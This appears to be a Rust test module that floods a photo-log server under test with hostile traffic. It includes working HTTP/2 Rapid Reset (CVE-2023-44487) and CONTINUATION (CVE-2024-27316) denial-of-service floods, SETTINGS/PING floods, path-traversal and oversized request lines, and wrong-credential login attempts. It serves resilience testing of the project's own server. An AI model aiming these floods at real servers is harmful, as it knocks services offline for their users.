//! Attacks with requests and frames that no client sends.

use photolog_tests::http2::{END_HEADERS, END_STREAM, Http2, Kind, frame, head};
use photolog_tests::peer::until_closed;
use tokio::io::AsyncWriteExt;

use super::connections::hold_many;
use super::siege::Attacker;

/// Requests that are just well-formed enough for a response, and some that are not.
pub(super) async fn strange_requests(attacker: Attacker) {
    let server = attacker.target.server;
    let parameters: String = (0..5_000).map(|number| format!("p{number}=&")).collect();
    let small_parameters: String = (0..2_000).map(|number| format!("{number}&")).collect();
    let targets = [
        "CONNECT x:443".to_owned(),
        "CONNECT /".to_owned(),
        "OPTIONS *".to_owned(),
        "GET *".to_owned(),
        format!("GET http://{server}/healthz"),
        "GET http://elsewhere.example/images".to_owned(),
        "GET //images//".to_owned(),
        "BREW /images".to_owned(),
        "get /images".to_owned(),
        format!("{} /", "M".repeat(1_000)),
        "PRI *".to_owned(),
        format!("GET /images/x?{parameters}"),
        format!("GET /images/x?{small_parameters}"),
        format!("GET /{}", "a/".repeat(10_000)),
        format!("GET /images/{}", "%2e%2e%2f".repeat(2_000)),
        "GET /accounts/x/images?as_of=9999-12-31T23:59:59-23:59".to_owned(),
    ];
    loop {
        for target in &targets {
            let request = format!("{target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
            // Refusals are expected.
            let _ = attacker.exchange(request.as_bytes()).await;
            tokio::time::sleep(super::FLOOD_PAUSE).await;
        }
    }
}

/// Sends bytes repeatedly on a connection whose responses it reads, until it is closed; then on the
/// next one. `bytes` gets the number of the round on the connection.
async fn flood(attacker: Attacker, bytes: impl Fn(u32) -> Vec<u8>) {
    loop {
        let once = async {
            let mut stream = attacker.connect().await?;
            let hello = [
                photolog_tests::http2::PREFACE,
                &frame(Kind::Settings, 0, 0, &[]),
            ];
            stream.write_all(&hello.concat()).await?;
            let (mut incoming, mut outgoing) = stream.split();
            let send = async {
                for turn in 0.. {
                    if outgoing.write_all(&bytes(turn)).await.is_err() {
                        break;
                    }
                    tokio::time::sleep(super::FLOOD_PAUSE).await;
                }
            };
            tokio::select! {
                () = send => {}
                () = until_closed(&mut incoming) => {}
            }
            std::io::Result::Ok(())
        };
        let _ = once.await;
        tokio::time::sleep(super::FLOOD_PAUSE).await;
    }
}

/// Requests that are cancelled at once (CVE-2023-44487).
pub(super) async fn rapid_reset(attacker: Attacker) {
    const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
    let target = format!("/images/{}?size=1999x1999", attacker.target.large);
    let head = head("GET", &target, &[]);
    flood(attacker, |turn| {
        let mut bytes = Vec::new();
        for number in 0..100 {
            let stream = 2 * (100 * turn + number) + 1;
            let flags = END_HEADERS | END_STREAM;
            bytes.extend(frame(Kind::Headers, flags, stream, &head));
            bytes.extend(frame(Kind::RstStream, 0, stream, &CANCEL));
        }
        bytes
    })
    .await;
}

/// A head that never ends (CVE-2024-27316).
pub(super) async fn continuations(attacker: Attacker) {
    let begin = head("GET", "/", &[]);
    let more = head("GET", "/", &[("x-more", &"x".repeat(1_000))]);
    // The regular fields alone.
    let more = more[head("GET", "/", &[]).len()..].repeat(16);
    flood(attacker, |turn| {
        let mut bytes = Vec::new();
        if turn == 0 {
            bytes.extend(frame(Kind::Headers, 0, 1, &begin));
        }
        for _ in 0..16 {
            bytes.extend(frame(Kind::Continuation, 0, 1, &more));
        }
        bytes
    })
    .await;
}

/// Frames that the server must acknowledge, as fast as it takes them; the acknowledgements are not
/// read.
pub(super) async fn settings_and_pings(attacker: Attacker) {
    let pair = [
        frame(Kind::Settings, 0, 0, &[]),
        frame(Kind::Ping, 0, 0, &[0; 8]),
    ];
    let bytes = pair.concat().repeat(200);
    loop {
        let once = async {
            let mut connection = Http2::begin(attacker.connect().await?, 65_535).await?;
            loop {
                connection.send(&bytes).await?;
                tokio::time::sleep(super::FLOOD_PAUSE).await;
            }
        };
        let ended: std::io::Result<()> = once.await;
        drop(ended);
        tokio::time::sleep(super::FLOOD_PAUSE).await;
    }
}

/// Log-ins and reads with every kind of wrong credentials.
pub(super) async fn wrong_credentials(attacker: Attacker) {
    let account = attacker.target.account.clone();
    let wrong =
        photolog_tests::raw::basic(&("plk_aaaaaaaaaaaaaaaa".to_owned(), "pls_x".to_owned()));
    let body = "{\"grant_type\": \"client_credentials\", \"client_id\": \"plk_aaaaaaaaaaaaaaaa\", \
                \"client_secret\": \"pls_x\"}";
    loop {
        let requests = [
            format!("GET /accounts/{account}/images HTTP/1.1\r\nAuthorization: {wrong}\r\n"),
            format!(
                "GET /accounts/{account}/images HTTP/1.1\r\nAuthorization: Bearer aaaa.bbbb\r\n"
            ),
            "GET /files/ HTTP/1.1\r\nAuthorization: Uploadcare.Simple a:b\r\n".to_owned(),
            "GET /v2.1/images HTTP/1.1\r\nX-Auth-Token: aaaa:bbbb\r\n".to_owned(),
            format!(
                "POST /oauth2/token HTTP/1.1\r\nContent-Length: {}\r\n",
                body.len()
            ),
        ];
        for request in requests {
            let body = if request.starts_with("POST") {
                body
            } else {
                ""
            };
            let request = format!("{request}Host: x\r\nConnection: close\r\n\r\n{body}");
            // Refusals are expected.
            let _ = attacker.exchange(request.as_bytes()).await;
        }
        tokio::time::sleep(super::FLOOD_PAUSE).await;
    }
}

/// Log-ins with a valid key, as fast as they are answered: each is a write.
pub(super) async fn log_ins(attacker: Attacker) {
    let body = "{\"grant_type\": \"client_credentials\"}";
    let request = format!(
        "POST /oauth2/token HTTP/1.1\r\nHost: x\r\nAuthorization: {}\r\nConnection: close\r\n\
         Content-Length: {}\r\n\r\n{body}",
        attacker.target.authorization,
        body.len()
    );
    hold_many(8, || async { attacker.exchange(request.as_bytes()).await }).await;
}

/// Public links that do not exist.
pub(super) async fn unknown_links(attacker: Attacker) {
    loop {
        let number = attacker.next_number();
        let request = format!(
            "GET /images/unknown{number:015} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        );
        // Refusals are expected.
        let _ = attacker.exchange(request.as_bytes()).await;
        tokio::time::sleep(super::FLOOD_PAUSE).await;
    }
}
